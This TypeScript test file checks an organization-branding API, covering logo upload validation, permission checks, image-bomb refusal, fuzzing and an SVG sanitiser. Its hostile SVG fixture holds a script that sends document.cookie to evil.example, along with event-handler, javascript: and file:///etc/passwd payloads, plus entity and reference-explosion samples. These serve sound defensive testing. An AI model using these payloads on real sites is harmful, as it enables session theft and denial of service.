import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { eq } from 'drizzle-orm';
import fc from 'fast-check';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BRANDING_LIMITS, brandingSchema, DEFAULT_BRANDING_COLORS } from '../../../src/contract';
import { auditLogs, memberships, organizationBranding } from '../../../src/db/schema';
import { acceptLogo, LogoRejectedError, sniffLogoType } from '../../../src/reports/branding/logoFile';
import { sanitizeSvg, SvgRejectedError } from '../../../src/reports/branding/sanitizeSvg';
import { assertLogoRenders, renderDealReportPdf } from '../../../src/reports/pdf';
import { loadOrganizationBranding } from '../../../src/services/branding';
import { startTestServer, type TestServer, type TestUser } from '../../harness';
import { bombPng, dealReportFixture, makePng, pdfOperators, pdfText, SVG_LOGO } from '../pdf/reportPdfFixture';
import { TEST_ROOT } from '../../paths';

const JPEG_LOGO = readFileSync(join(TEST_ROOT, 'fixtures/branding/logo.jpg'));

const LOGO_BOMB = bombPng(4096, 4096, 16, 6);

/** A JPEG whose start-of-frame declares `width`×`height` with `components` channels (no scan data follows). */
function jpegDeclaring(width: number, height: number, components: number): Buffer {
  const frame = Buffer.alloc(2 + 6 + components * 3);
  frame.writeUInt16BE(frame.length, 0);
  frame[2] = 8;
  frame.writeUInt16BE(height, 3);
  frame.writeUInt16BE(width, 5);
  frame[7] = components;
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xc0]), frame, Buffer.from([0xff, 0xd9])]);
}

const HOSTILE_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50" onload="alert(1)">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <style>@import url(https://evil.example/x.css); rect { fill: red }</style>
  <foreignObject width="100" height="50"><div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(2)">hi</div></foreignObject>
  <image href="https://evil.example/pixel.png" width="10" height="10"/>
  <image xlink:href="file:///etc/passwd" width="10" height="10"/>
  <a href="javascript:alert(3)"><rect width="10" height="10"/></a>
  <use href="https://evil.example/sprite.svg#icon"/>
  <use xlink:href="#keep"/>
  <rect id="keep" x="1" y="1" width="20" height="20" fill="url(https://evil.example/paint)" stroke="#123456" onmouseover="alert(4)"
        style="stroke-width:2;background:url(https://evil.example/bg.png);fill:url(#grad)"/>
  <linearGradient id="grad"><stop offset="0" stop-color="#fff"/></linearGradient>
  <circle cx="40" cy="25" r="10" fill="#00ff00"/>
</svg>`;

let server: TestServer;
let owner: TestUser;
let admin: TestUser;
let analyst: TestUser;
let outsider: TestUser;
let team: number;

beforeAll(async () => {
  server = await startTestServer();
  owner = await server.registerAndLogin('brand-owner');
  admin = await server.registerAndLogin('brand-admin');
  analyst = await server.registerAndLogin('brand-analyst');
  outsider = await server.registerAndLogin('brand-outsider');
  team = owner.organizationId;
  const now = new Date();
  await server.db.insert(memberships).values([
    { organizationId: team, userId: admin.id, role: 'admin', acceptedAt: now, invitedBy: owner.id },
    { organizationId: team, userId: analyst.id, role: 'analyst', acceptedAt: now, invitedBy: owner.id },
  ]);
}, 60_000);

afterAll(async () => {
  await server?.close();
});

const url = (suffix = '') => `/api/organizations/${team}/branding${suffix}`;
const putBranding = (user: TestUser, payload: Record<string, unknown>) => server.request({ method: 'PUT', url: url(), token: user.token, payload });
const putLogo = (user: TestUser, bytes: Buffer | string, fileName?: string) =>
  server.request({
    method: 'PUT',
    url: url('/logo'),
    token: user.token,
    payload: { data: typeof bytes === 'string' ? bytes : bytes.toString('base64'), ...(fileName ? { fileName } : {}) },
  });

describe('organization branding routes', () => {
  it('starts at the defaults; every member reads it, only owners and admins may edit', async () => {
    const asOwner = await server.request({ method: 'GET', url: url(), token: owner.token });
    expect(asOwner.statusCode).toBe(200);
    const branding = brandingSchema.parse(asOwner.data);
    expect(branding).toMatchObject({ organizationId: team, primaryColor: null, accentColor: null, contactLine: null, logo: null, canEdit: true });
    expect(branding.effectiveColors).toEqual(DEFAULT_BRANDING_COLORS);
    const asAnalyst = await server.request({ method: 'GET', url: url(), token: analyst.token });
    expect(asAnalyst.statusCode).toBe(200);
    expect(asAnalyst.data.canEdit).toBe(false);
  });

  it('saves colours (lower-cased) and the contact line; fields left out keep their value, null clears', async () => {
    const saved = await putBranding(owner, { primaryColor: '#6B2C91', accentColor: '#f5a623', contactLine: '  Zqx Holdings · 212-555-0100  ' });
    expect(saved.statusCode).toBe(200);
    expect(saved.data).toMatchObject({ primaryColor: '#6b2c91', accentColor: '#f5a623', contactLine: 'Zqx Holdings · 212-555-0100' });
    const partial = await putBranding(admin, { accentColor: null });
    expect(partial.statusCode).toBe(200);
    expect(partial.data).toMatchObject({ primaryColor: '#6b2c91', accentColor: null, contactLine: 'Zqx Holdings · 212-555-0100' });
    expect(partial.data.effectiveColors.accentColor).toBe(DEFAULT_BRANDING_COLORS.accentColor);
    const audit = await server.db.select().from(auditLogs).where(eq(auditLogs.action, 'organization.branding.update'));
    expect(audit.length).toBeGreaterThanOrEqual(2);
  });

  it('answers 400 naming the field for a bad colour, a too-long or multi-line contact line, an unknown field', async () => {
    // each with the reason a person can act on (the walkthrough saw 'Invalid input' for all of them)
    const cases: [Record<string, unknown>, string, RegExp][] = [
      [{ primaryColor: 'red' }, 'body.primaryColor', /#rrggbb/],
      [{ accentColor: '#12345' }, 'body.accentColor', /#rrggbb/],
      [{ primaryColor: 12 }, 'body.primaryColor', /#rrggbb/],
      [{ contactLine: 'x'.repeat(BRANDING_LIMITS.contactLineMaxLength + 1) }, 'body.contactLine', /at most/],
      [{ contactLine: 'line one\nline two' }, 'body.contactLine', /one line/],
      [{ logoUrl: 'https://evil.example/logo.png' }, 'body', /Unknown field/],
    ];
    for (const [payload, field, reason] of cases) {
      const response = await putBranding(owner, payload);
      expect(response.statusCode, JSON.stringify(payload)).toBe(400);
      expect(Object.keys(response.data.fields)).toContain(field);
      expect(String(response.data.fields[field])).toMatch(reason);
    }
  });

  it('refuses analysts (403) and other organizations (404) on every change, and outsiders cannot read it', async () => {
    expect((await putBranding(analyst, { contactLine: 'analyst' })).statusCode).toBe(403);
    expect((await putLogo(analyst, makePng(20, 20))).statusCode).toBe(403);
    expect((await server.request({ method: 'DELETE', url: url('/logo'), token: analyst.token })).statusCode).toBe(403);
    for (const request of [
      { method: 'GET' as const, url: url() },
      { method: 'GET' as const, url: url('/logo') },
      { method: 'PUT' as const, url: url(), payload: { contactLine: 'outsider' } },
      { method: 'PUT' as const, url: url('/logo'), payload: { data: makePng(20, 20).toString('base64') } },
      { method: 'DELETE' as const, url: url('/logo') },
    ]) {
      const response = await server.request({ ...request, token: outsider.token });
      expect(response.statusCode, `${request.method} ${request.url}`).toBe(404);
      expect(response.body).not.toContain('Zqx');
    }
    const unsigned = await server.request({ method: 'GET', url: url() });
    expect(unsigned.statusCode).toBe(401);
  });

  it('stores a PNG logo, found by its bytes, and serves it back to members only', async () => {
    const png = makePng(240, 80);
    const uploaded = await putLogo(owner, `data:image/gif;base64,${png.toString('base64')}`, 'logo.gif');
    expect(uploaded.statusCode).toBe(200);
    expect(uploaded.data.logo).toMatchObject({ mediaType: 'image/png', width: 240, height: 80, fileName: 'logo.gif', sanitized: false });
    const image = await server.request({ method: 'GET', url: url('/logo'), token: analyst.token });
    expect(image.statusCode).toBe(200);
    expect(image.headers['content-type']).toBe('image/png');
    expect(image.headers['x-content-type-options']).toBe('nosniff');
    // what is served is the stored re-encoding, the same size as uploaded (never enlarged)
    expect(image.rawPayload.length).toBe(uploaded.data.logo.byteLength);
    expect(await sharp(image.rawPayload).metadata()).toMatchObject({ format: 'png', width: 240, height: 80 });
    expect(createHash('sha256').update(image.rawPayload).digest('hex')).toBe(uploaded.data.logo.sha256);
  });

  it('stores a large PNG or JPEG logo re-encoded small (at most 512 px a side), and the branded PDF uses that', async () => {
    const png = makePng(1600, 400);
    const uploaded = await putLogo(owner, png, 'wide.png');
    expect(uploaded.statusCode, uploaded.body).toBe(200);
    expect(uploaded.data.logo).toMatchObject({ mediaType: 'image/png', width: BRANDING_LIMITS.logoStoredMaxPixels, height: 128 });
    const stored = (await server.request({ method: 'GET', url: url('/logo'), token: owner.token })).rawPayload;
    expect(await sharp(stored).metadata()).toMatchObject({ format: 'png', width: 512, height: 128, depth: 'uchar' });
    expect(stored.length).toBeLessThan(png.length);
    const branding = await loadOrganizationBranding(server.db, team);
    expect(branding.logo?.bytes.equals(stored)).toBe(true);

    const photo = await sharp({ create: { width: 1400, height: 1000, channels: 3, background: '#1f3a5f' } }).jpeg({ quality: 95 }).toBuffer();
    const jpeg = await putLogo(owner, photo, 'photo.jpg');
    expect(jpeg.statusCode, jpeg.body).toBe(200);
    expect(jpeg.data.logo).toMatchObject({ mediaType: 'image/jpeg', width: 512, height: 366 });
  });

  it('refuses logo bombs by their header, before decoding: 400 naming body.data with the decoded size and the budget', async () => {
    const bombs: [string, Buffer, RegExp][] = [
      ['4096×4096 16-bit RGBA of zeros', LOGO_BOMB, /4096×4096 pixels of 16-bit RGBA \(128 MB once decoded\).*at most 16 MB/],
      // the pixels are cut off: a decoder would call it damaged, the header check answers first
      ['the same, its pixels cut off', LOGO_BOMB.subarray(0, 200), /128 MB once decoded/],
      ['3000×3000 8-bit RGB', bombPng(3000, 3000, 8, 2), /3000×3000 pixels of 8-bit RGB \(26 MB once decoded\)/],
      ['a JPEG declaring 4000×4000 × 3 channels', jpegDeclaring(4000, 4000, 3), /4000×4000 pixels.*\(46 MB once decoded\)/],
      ['wider than 4096 px', bombPng(BRANDING_LIMITS.logoMaxPixels + 1, 1, 8, 0), /at most 4096 pixels a side/],
    ];
    for (const [name, bytes, message] of bombs) {
      expect(bytes.length, name).toBeLessThan(BRANDING_LIMITS.logoMaxBytes);
      const response = await putLogo(owner, bytes, 'bomb.png');
      expect(response.statusCode, name).toBe(400);
      expect(response.data.code).toBe('VALIDATION_FAILED');
      expect(response.data.fields['body.data'], name).toMatch(message);
    }
    // 2048×2048 RGBA is exactly the budget: taken, and stored at 512×512
    const atBudget = await putLogo(owner, bombPng(2048, 2048, 8, 6), 'square.png');
    expect(atBudget.statusCode, atBudget.body).toBe(200);
    expect(atBudget.data.logo).toMatchObject({ width: 512, height: 512 });
  });

  it('health answers while five logo bombs are refused at once', async () => {
    const health = () => server.request({ method: 'GET', url: '/api/health' });
    const answers = await Promise.all([
      health(),
      ...Array.from({ length: 5 }, () => putLogo(admin, LOGO_BOMB, 'bomb.png')),
      health(),
      health(),
    ]);
    const [first, ...rest] = answers;
    const bombs = rest.slice(0, 5);
    expect(first!.statusCode).toBe(200);
    for (const bomb of bombs) expect(bomb.statusCode).toBe(400);
    for (const answer of rest.slice(5)) expect(answer.data).toMatchObject({ status: 'ok' });
  });

  it('a stored logo over the decode budget (kept before the check) is left out of reports, not decoded', async () => {
    await server.db
      .update(organizationBranding)
      .set({ logo: LOGO_BOMB, logoMediaType: 'image/png', logoSha256: 'f'.repeat(64), logoWidth: 4096, logoHeight: 4096, logoUpdatedAt: new Date() })
      .where(eq(organizationBranding.organizationId, team));
    expect((await loadOrganizationBranding(server.db, team)).logo).toBeNull();
    expect((await putLogo(owner, makePng(240, 80))).statusCode).toBe(200);
    expect((await loadOrganizationBranding(server.db, team)).logo).not.toBeNull();
  });

  it('takes a JPEG named like an SVG as the JPEG it is', async () => {
    const uploaded = await putLogo(admin, JPEG_LOGO, 'logo.svg');
    expect(uploaded.statusCode).toBe(200);
    expect(uploaded.data.logo.mediaType).toBe('image/jpeg');
    expect(uploaded.data.logo.width).toBeGreaterThan(0);
  });

  it('refuses a file that is not an image, one over the size limit, a damaged PNG and bad base64 (400 on body.data)', async () => {
    const notImages: [string, Buffer | string][] = [
      ['text named .png', Buffer.from('just some text, honestly a logo')],
      ['a PDF', Buffer.from('%PDF-1.7\n1 0 obj << >> endobj\n')],
      ['a GIF', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1')],
      ['HTML', Buffer.from('<html><body><svg onload="alert(1)"></svg></body></html>')],
      ['too big', makePng(420, 420, { noise: true })],
      ['damaged PNG', makePng(240, 80).subarray(0, 40)],
      ['not base64', '@@@ not base64 @@@'],
    ];
    for (const [name, bytes] of notImages) {
      if (name === 'too big') expect((bytes as Buffer).length).toBeGreaterThan(BRANDING_LIMITS.logoMaxBytes);
      const response = await putLogo(owner, bytes, 'logo.png');
      expect(response.statusCode, name).toBe(400);
      expect(Object.keys(response.data.fields), name).toContain('body.data');
      expect(response.data.fields['body.data'], name).toMatch(/PNG|JPEG|SVG|KB|base64|damaged|drawn/);
    }
    // The JPEG stored before is still the logo.
    const after = await server.request({ method: 'GET', url: url(), token: owner.token });
    expect(after.data.logo.mediaType).toBe('image/jpeg');
  });

  it('answers a body far over the limit with 413, never a 5xx', async () => {
    const response = await putLogo(owner, 'A'.repeat(5 * 1024 * 1024));
    expect(response.statusCode).toBe(413);
  });

  it('sanitises an SVG logo: no script, handler, style sheet, foreignObject or outside reference survives', async () => {
    const uploaded = await putLogo(owner, Buffer.from(HOSTILE_SVG), 'logo.svg');
    expect(uploaded.statusCode).toBe(200);
    expect(uploaded.data.logo).toMatchObject({ mediaType: 'image/svg+xml', sanitized: true, width: 100, height: 50 });
    const served = await server.request({ method: 'GET', url: url('/logo'), token: owner.token });
    expect(served.headers['content-type']).toMatch(/^image\/svg\+xml/);
    expect(served.headers['content-security-policy']).toContain("default-src 'none'");
    expect(served.headers['content-security-policy']).toContain('sandbox');
    const svg = served.body;
    for (const banned of ['script', 'onload', 'onclick', 'onmouseover', 'foreignObject', 'evil.example', 'javascript:', 'file:', '<image', '<style', '@import', '<a ']) {
      expect(svg, banned).not.toContain(banned);
    }
    expect(svg).toContain('<rect id="keep"');
    expect(svg).toContain('<use href="#keep"/>');
    expect(svg).toContain('fill:url(#grad)');
    expect(svg).toContain('<circle');
  });

  it('refuses an SVG with entities, one that is not well-formed, and one whose root is not <svg>', async () => {
    const bad = [
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&lol2;</text></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>',
    ];
    for (const text of bad) {
      const response = await putLogo(owner, Buffer.from(text));
      expect(response.statusCode, text).toBe(400);
      expect(Object.keys(response.data.fields)).toContain('body.data');
    }
  });

  it('answers any JSON body, path id or base64 garbage below 500', async () => {
    // A team of its own, so the generated (often valid) changes leave the shared team's branding alone.
    const fuzzer = await server.registerAndLogin('brand-fuzzer');
    const body = fc.oneof(
      fc.jsonValue(),
      fc.record({ primaryColor: fc.jsonValue(), accentColor: fc.jsonValue(), contactLine: fc.jsonValue() }, { requiredKeys: [] }),
      fc.record({ data: fc.oneof(fc.string(), fc.base64String(), fc.uint8Array({ maxLength: 600 }).map((bytes) => Buffer.from(bytes).toString('base64'))), fileName: fc.jsonValue() }, { requiredKeys: [] }),
    );
    const id = fc.oneof(fc.constant(String(fuzzer.organizationId)), fc.constant(String(team)), fc.constantFrom('0', '-1', '1e3', 'abc', '99999999999', '%00'), fc.nat().map(String));
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('', '/logo'), id, body, async (suffix, organizationId, payload) => {
        const response = await server.request({ method: 'PUT', url: `/api/organizations/${organizationId}/branding${suffix}`, token: fuzzer.token, payload: JSON.stringify(payload), headers: { 'content-type': 'application/json' } });
        expect(response.statusCode).toBeLessThan(500);
      }),
      { numRuns: 150 },
    );
  });

  it('deletes the logo; the image then answers 404', async () => {
    const deleted = await server.request({ method: 'DELETE', url: url('/logo'), token: admin.token });
    expect(deleted.statusCode).toBe(200);
    expect(deleted.data.logo).toBeNull();
    expect((await server.request({ method: 'GET', url: url('/logo'), token: owner.token })).statusCode).toBe(404);
  });

  it("a branded PDF built from the stored branding shows the organization's name, contact line and logo", async () => {
    await putLogo(owner, makePng(240, 80));
    await putBranding(owner, { contactLine: 'Zqx Holdings · deals@zqx.example' });
    const branding = await loadOrganizationBranding(server.db, team);
    expect(branding.primaryColor).toBe('#6b2c91');
    const pdf = await renderDealReportPdf(dealReportFixture(), branding);
    const { text } = await pdfText(pdf);
    expect(text).toContain(branding.organizationName);
    expect(text).toContain('Zqx Holdings · deals@zqx.example');
    const { ops, OPS } = await pdfOperators(pdf);
    expect(ops[0]).toContain(OPS.paintImageXObject!);
  });
});

describe('logo checks', () => {
  it('tells the kind by the first bytes only', () => {
    expect(sniffLogoType(makePng(4, 4))).toBe('image/png');
    expect(sniffLogoType(JPEG_LOGO)).toBe('image/jpeg');
    expect(sniffLogoType(Buffer.from('\uFEFF<?xml version="1.0"?>\n<!-- made by hand -->\n<svg xmlns="http://www.w3.org/2000/svg"/>'))).toBe('image/svg+xml');
    expect(sniffLogoType(Buffer.from('<html><svg/></html>'))).toBeNull();
    expect(sniffLogoType(Buffer.from([0x89, 0x50, 0x4e]))).toBeNull();
  });

  it('refuses an SVG logo too detailed to draw on every page', async () => {
    let seed = 7;
    const next = () => {
      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
      return ((seed >>> 8) % 100_000) / 1000;
    };
    const segments = Array.from({ length: 30_000 }, () => `L${next()} ${next()}`).join('');
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><path d="M0 0${segments}"/></svg>`;
    expect(svg.length).toBeLessThan(BRANDING_LIMITS.logoMaxBytes);
    const accepted = acceptLogo(Buffer.from(svg));
    await expect(assertLogoRenders({ ...accepted })).rejects.toThrow(/too detailed/);
    await expect(assertLogoRenders({ ...acceptLogo(Buffer.from(SVG_LOGO)) })).resolves.toBeUndefined();
  });

  it('refuses pixel sizes beyond the limit and empty files', () => {
    expect(() => acceptLogo(makePng(BRANDING_LIMITS.logoMaxPixels + 1, 1))).toThrow(LogoRejectedError);
    expect(() => acceptLogo(Buffer.alloc(0))).toThrow(/empty/);
  });

  it('the sanitiser keeps drawing elements and reports what it removed', () => {
    const result = sanitizeSvg(SVG_LOGO);
    expect(result.removed).toEqual([]);
    expect(result.svg).toContain('<text x="48" y="27" font-family="sans-serif" font-size="18" fill="#1f3a5f">ZQX</text>');
    const hostile = sanitizeSvg(HOSTILE_SVG);
    expect(hostile.removed).toEqual(expect.arrayContaining(['attribute onload', 'element script', 'element style', 'element foreignObject', 'element image', 'element a', 'outside reference in href']));
    expect(() => sanitizeSvg('<html xmlns="http://www.w3.org/1999/xhtml"/>')).toThrow(SvgRejectedError);
    expect(() => sanitizeSvg(`<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(50)}${'</g>'.repeat(50)}</svg>`)).toThrow(/nested/);
    expect(() => sanitizeSvg(`<svg xmlns="http://www.w3.org/2000/svg">${'<rect/>'.repeat(6000)}</svg>`)).toThrow(/elements/);
  });

  it('refuses <use> references that loop or multiply into millions of shapes', () => {
    const levels = Array.from({ length: 8 }, (_, level) => `<g id="l${level + 1}">${`<use href="#l${level}"/>`.repeat(10)}</g>`).join('');
    const laughs = `<svg xmlns="http://www.w3.org/2000/svg"><defs><rect id="l0" width="1" height="1"/>${levels}</defs><use href="#l8"/></svg>`;
    expect(() => sanitizeSvg(laughs)).toThrow(/more than 20000 shapes/);
    const loop = '<svg xmlns="http://www.w3.org/2000/svg"><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>';
    expect(() => sanitizeSvg(loop)).toThrow(/loop/);
    const gradientLoop = '<svg xmlns="http://www.w3.org/2000/svg"><linearGradient id="g" href="#g"/><rect width="4" height="4" fill="url(#g)"/></svg>';
    expect(() => sanitizeSvg(gradientLoop)).toThrow(/loop/);
    const chain = `<svg xmlns="http://www.w3.org/2000/svg"><rect id="c0" width="1" height="1"/>${Array.from({ length: 4000 }, (_, i) => `<use id="c${i + 1}" href="#c${i}"/>`).join('')}</svg>`;
    expect(() => sanitizeSvg(chain)).not.toThrow(TypeError);
    // A few honest references (a symbol used twice, a gradient fill) are fine.
    const honest = '<svg xmlns="http://www.w3.org/2000/svg"><defs><symbol id="s"><circle r="2"/></symbol><linearGradient id="g"><stop offset="0"/></linearGradient></defs><use href="#s"/><use href="#s" x="5"/><rect width="4" height="4" fill="url(#g)"/></svg>';
    expect(sanitizeSvg(honest).removed).toEqual([]);
  });
});
